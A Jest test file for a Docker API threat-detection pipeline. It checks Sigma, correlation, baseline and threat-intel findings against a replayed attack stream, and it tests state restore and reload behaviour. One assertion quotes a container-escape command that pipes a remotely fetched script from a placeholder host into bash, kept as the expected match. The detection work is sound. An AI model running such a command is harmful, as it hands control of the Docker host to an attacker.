import * as fs from 'fs';
import * as path from 'path';
import type { Finding } from '../schemas/generated/finding';
import { loadBaselines, type BaselineDef } from './baselines/baseline-config';
import { DetectorPipeline, type DetectorSets } from './detector-pipeline';
import { IndicatorSet } from './intel/indicator-set';
import { parseIndicatorCsv, parseIndicatorList, parseStixBundle } from './intel/parse-indicators';
import { compileRules } from './sigma/compile-engine';
import { loadRules } from './sigma/loader';
import { PartitionState } from './state/partition-state';

const ROOT = path.resolve(__dirname, '..');
const RULES = path.join(ROOT, 'sigma-rules');

function yamlFiles(dir: string): { file: string; text: string }[] {
  return fs
    .readdirSync(dir)
    .filter((f) => /\.yml$/.test(f) && !/\.test\.yml$/.test(f))
    .sort()
    .map((f) => ({ file: path.join(dir, f), text: fs.readFileSync(path.join(dir, f), 'utf8') }));
}

function sampleIntel(): IndicatorSet {
  const dir = path.join(RULES, 'intel');
  const set = new IndicatorSet();
  const read = (f: string): string => fs.readFileSync(path.join(dir, f), 'utf8');
  const parsed = [
    parseIndicatorCsv('sample-indicators.csv', read('sample-indicators.csv')),
    parseIndicatorList('domains.txt', read('domains.txt'), 'domain'),
    parseStixBundle('sample-bundle.json', read('sample-bundle.json')),
  ];
  for (const p of parsed) {
    expect(p.errors.filter((e) => e.severity === 'error')).toEqual([]);
    for (const i of p.indicators) expect(set.add(i)).toBe(true);
  }
  return set;
}

function sets(baselines?: BaselineDef[]): DetectorSets {
  const load = loadRules(yamlFiles(path.join(RULES, 'docker')));
  expect(load.problems.filter((p) => p.severity === 'error')).toEqual([]);
  const defs = baselines ?? loadBaselines(yamlFiles(path.join(RULES, 'baselines'))).defs;
  return { rules: compileRules(load), baselines: defs, intel: sampleIntel(), rulesRoot: RULES };
}

/** A day of ordinary work by the backup host before the seed campaign, then the campaign. */
function seedStream(): Record<string, unknown>[] {
  const history: Record<string, unknown>[] = [];
  for (let h = 0; h < 25; h++) {
    const t = Date.parse('2026-11-27T09:00:00Z') + h * 3_600_000;
    history.push({
      '@timestamp': new Date(t).toISOString(),
      event: { id: `hist-${h}` },
      source: { ip: '10.0.4.12', port: 50000 + h },
      http: { request: { method: 'POST' } },
      dockguard: { endpoint: '/containers/create', container: { binds: ['/srv/backup:/backup:ro'] } },
      container: { image: { name: 'restic/restic:0.16' } },
    });
  }
  const seed = fs
    .readFileSync(path.join(ROOT, 'examples/events/seed-attack.jsonl'), 'utf8')
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l, i) => ({ ...(JSON.parse(l) as Record<string, unknown>), event: { id: `seed-${i}` } }));
  return [...history, ...seed];
}

function run(p: DetectorPipeline, events: readonly unknown[], from = 0, partition = 0): Finding[] {
  const out: Finding[] = [];
  for (let i = from; i < events.length; i++) {
    const r = p.process(events[i], { partition, offset: i });
    expect(r.failures).toEqual([]);
    out.push(...r.findings);
  }
  return out;
}

const ids = (fs_: Finding[]): string[] => fs_.map((f) => f.finding.id);

// compiled sets are immutable and shared by pipelines (each keeps its own state)
const SETS = sets();

describe('DetectorPipeline on the seed attack', () => {
  const events = seedStream();
  const findings = [...run(new DetectorPipeline(SETS), events)];

  it('reports the Sigma detections of the malicious create', () => {
    const sigma = findings.filter((f) => f.finding.kind === 'sigma');
    expect(sigma.map((f) => f.rule.id).sort()).toEqual(
      [
        '31f23350-0051-4b0b-8fc2-45b1f7d7a831',
        '56abf52d-f5bd-49c2-b477-30c53bfdd15d',
        'af7557bb-94b5-4162-8e98-fac9490ec695',
      ].sort(),
    );
    for (const f of sigma) {
      expect(f.dockguard.event_ids).toEqual(['seed-4']);
      expect(f.dockguard.client_key).toBe('203.0.113.7');
      expect(f.source.ip).toBe('203.0.113.7');
      expect(f.dockguard.endpoint).toBe('/containers/create');
      expect(f.event.level).toBe('high');
      expect(f.event.severity).toBe(73);
      expect(f.rule.version).toMatch(/^[0-9a-f]{16}$/);
      expect(f.rule.ruleset).toMatch(/^docker\/.+\.yml$/);
      expect(f.dockguard.matched.length).toBeGreaterThan(0);
      expect(f.message).toContain('203.0.113.7');
      expect(f.timestamp).toBe(Date.parse('2026-11-28T10:01:09.000Z'));
    }
    const dl = sigma.find((f) => f.rule.id === 'af7557bb-94b5-4162-8e98-fac9490ec695') as Finding;
    expect(dl.threat.framework).toBe('MITRE ATT&CK');
    expect(dl.threat.tactic.id).toContain('TA0002');
    expect(dl.threat.tactic.name[dl.threat.tactic.id.indexOf('TA0002')]).toBe('Execution');
    expect(dl.threat.technique.id).toEqual(expect.arrayContaining(['T1059.004', 'T1610']));
    expect(dl.dockguard.matched).toContainEqual({
      field: 'process.command_line',
      value: "chroot /mnt /bin/sh -c 'curl -sL4 http://x/m.sh | bash'",
    });
  });

  it('reports the pull → create → start sequence with its events and window', () => {
    const corr = findings.filter((f) => f.finding.kind === 'correlation');
    expect(corr).toHaveLength(1);
    const c = corr[0] as Finding;
    expect(c.rule.id).toBe('ba8f42a4-0612-4ef5-89ef-f8c11917fd6c');
    expect(c.dockguard.event_ids).toEqual(['seed-3', 'seed-4', 'seed-5']);
    expect(c.dockguard.event_count).toBe(3);
    expect(c.dockguard.correlation).toEqual({
      type: 'temporal_ordered',
      group: '{"source.ip":"203.0.113.7"}',
      window_start: Date.parse('2026-11-28T10:01:02.000Z'),
      window_end: Date.parse('2026-11-28T10:01:10.000Z'),
      value: 3,
      rules: ['image_pull', 'container_create', 'container_start'],
    });
    expect(c.dockguard.client_key).toBe('203.0.113.7');
  });

  it('reports the new client as a first-seen baseline deviation, and nothing for the known one', () => {
    const base = findings.filter((f) => f.finding.kind === 'baseline');
    expect(base).toHaveLength(1);
    const b = base[0] as Finding;
    expect(b.rule.id).toBe('0b6f3c2e-5d1a-4c47-9f0e-2a8d7b9e4c11');
    expect(b.dockguard.baseline?.kind).toBe('first_seen');
    expect(b.dockguard.baseline?.observed).toBe('203.0.113.7');
    expect(JSON.parse(b.dockguard.baseline?.expected ?? '{}')).toMatchObject({
      known_values: 1,
      recent: ['10.0.4.12'],
    });
    expect(b.dockguard.event_ids).toEqual(['seed-4']);
  });

  it('reports the listed scanner address once per event it made', () => {
    const intel = findings.filter((f) => f.finding.kind === 'threat_intel');
    expect(intel.map((f) => f.dockguard.event_ids[0])).toEqual(['seed-2', 'seed-3', 'seed-4', 'seed-5']);
    for (const f of intel) expect(f.dockguard.intel).toMatchObject({ indicator: '203.0.113.7', field: 'source.ip' });
  });

  it('gives every finding a unique id, the same in a second run', () => {
    expect(new Set(ids(findings)).size).toBe(findings.length);
    expect(ids(run(new DetectorPipeline(sets()), events))).toEqual(ids(findings));
  });
});

describe('DetectorPipeline state', () => {
  const events = seedStream();
  const baseline = run(new DetectorPipeline(SETS), events);

  it('snapshot after any event, restored into a fresh pipeline, continues exactly as an uninterrupted run', () => {
    for (let k = 0; k <= events.length; k++) {
      const first = new DetectorPipeline(SETS);
      const head = run(first, events.slice(0, k));
      const snap = first.state(0).snapshot();
      const second = new DetectorPipeline(SETS);
      second.restore(PartitionState.restore(0, snap));
      const tail = run(second, events, k);
      expect(ids([...head, ...tail, ...second.flush()])).toEqual(ids(baseline));
    }
  });

  it('a changelog drained after every event and replayed restores exactly', () => {
    for (let k = 0; k <= events.length; k++) {
      const first = new DetectorPipeline(SETS);
      const log = new Map<string, string | null>();
      const head: Finding[] = [];
      for (let i = 0; i < k; i++) {
        head.push(...first.process(events[i], { partition: 0, offset: i }).findings);
        // a compacted topic keeps the last value per key, in the order of last write
        for (const c of first.state(0).drainChanges()) {
          log.delete(c.key);
          log.set(c.key, c.value);
        }
      }
      const restored = new PartitionState(0);
      for (const [key, value] of log) if (value !== null) restored.applyChange(key, value);
      const second = new DetectorPipeline(SETS);
      second.restore(restored);
      expect(ids([...head, ...run(second, events, k)])).toEqual(ids(baseline));
    }
  });

  it('an event beyond the allowed lateness matches statelessly and is counted, not folded in', () => {
    const p = new DetectorPipeline(SETS, { allowedLatenessMs: 60_000 });
    run(p, events);
    const late = { ...(events[events.length - 3] as Record<string, unknown>), '@timestamp': '2026-11-28T09:00:00Z' };
    const before = p.state(0).snapshot();
    const r = p.process(late, { partition: 0, offset: 999 });
    expect(r.late).toBe(true);
    expect(r.findings.some((f) => f.finding.kind === 'sigma')).toBe(true);
    expect(r.findings.some((f) => f.finding.kind === 'baseline' || f.finding.kind === 'correlation')).toBe(false);
    expect(p.state(0).meta.late).toBe(1);
    expect(PartitionState.restore(0, p.state(0).snapshot()).baselines.size).toBe(
      PartitionState.restore(0, before).baselines.size,
    );
  });

  it('a detector that throws is reported as DETECTOR_FAILED and the others still run', () => {
    const fragile = loadBaselines([
      {
        file: 'fragile.yml',
        text: 'id: fragile\ntitle: Fragile\nkind: rate\nkey: [client]\nfilter: { weird.field: [x] }\n',
      },
    ]);
    expect(fragile.errors).toEqual([]);
    const p = new DetectorPipeline({ ...SETS, baselines: fragile.defs });
    // only the baseline reads weird.field, and reading it throws
    const weird = {
      get field(): string {
        throw new Error('boom');
      },
    };
    const seedCreate = events[events.length - 3] as Record<string, unknown>;
    const r = p.process({ ...seedCreate, weird }, { partition: 0, offset: 0 });
    expect(r.failures).toHaveLength(1);
    expect(r.failures[0]?.code).toBe('DETECTOR_FAILED');
    expect(r.failures[0]?.message).toContain('baselines failed');
    expect(r.findings.some((f) => f.finding.kind === 'sigma')).toBe(true);
    expect(r.findings.some((f) => f.finding.kind === 'threat_intel')).toBe(true);
  });

  it('reload swaps the sets and drops state of baselines no longer loaded', () => {
    const p = new DetectorPipeline(SETS);
    run(p, events);
    expect(p.state(0).baselines.size).toBeGreaterThan(0);
    p.reload({ ...SETS, baselines: [] });
    expect(p.state(0).baselines.size).toBe(0);
    const r = p.process(events[events.length - 3], { partition: 0, offset: 1000 });
    expect(r.findings.some((f) => f.finding.kind === 'baseline')).toBe(false);
  });

  it('flush decides windows that wait for their close, the same after a restore; created comes from the clock', () => {
    const text = [
      'title: Exec',
      'id: 11111111-1111-4111-8111-111111111111',
      'name: exec_call',
      'logsource: { product: docker }',
      "detection: { sel: { dockguard.endpoint: '/containers/{id}/exec' }, condition: sel }",
      'level: low',
      '---',
      'title: Few Execs',
      'id: 22222222-2222-4222-8222-222222222222',
      'correlation: { type: event_count, rules: [exec_call], group-by: [source.ip], timespan: 1m, condition: { lt: 3 } }',
      'level: low',
    ].join('\n');
    const load = loadRules([{ file: 'few.yml', text }]);
    expect(load.problems).toEqual([]);
    const few: DetectorSets = { rules: compileRules(load), baselines: [], intel: new IndicatorSet() };
    const exec = (s: number): Record<string, unknown> => ({
      '@timestamp': `2026-11-28T10:00:0${s}Z`,
      source: { ip: '192.0.2.1' },
      dockguard: { endpoint: '/containers/{id}/exec' },
    });
    const a = new DetectorPipeline(few, { clock: () => 42, detector: 'd-7' });
    const head = run(a, [exec(0), exec(1)]);
    expect(head).toEqual([]); // exec_call feeds a correlation without generate: not reported alone
    const b = new DetectorPipeline(few);
    b.restore(PartitionState.restore(0, a.state(0).snapshot()));
    const fa = a.flush();
    const fb = b.flush();
    expect(fa).toHaveLength(1);
    expect(fa[0]?.dockguard.correlation).toMatchObject({ type: 'event_count', value: 2 });
    expect(fa[0]?.dockguard.client_key).toBe('192.0.2.1'); // from the group: no current event
    expect(fa[0]?.finding).toMatchObject({ created: 42, detector: 'd-7' });
    expect(ids(fb)).toEqual(ids(fa));
    expect(fb[0]?.finding.created).toBe(fb[0]?.timestamp); // without a clock: the event time
  });
});
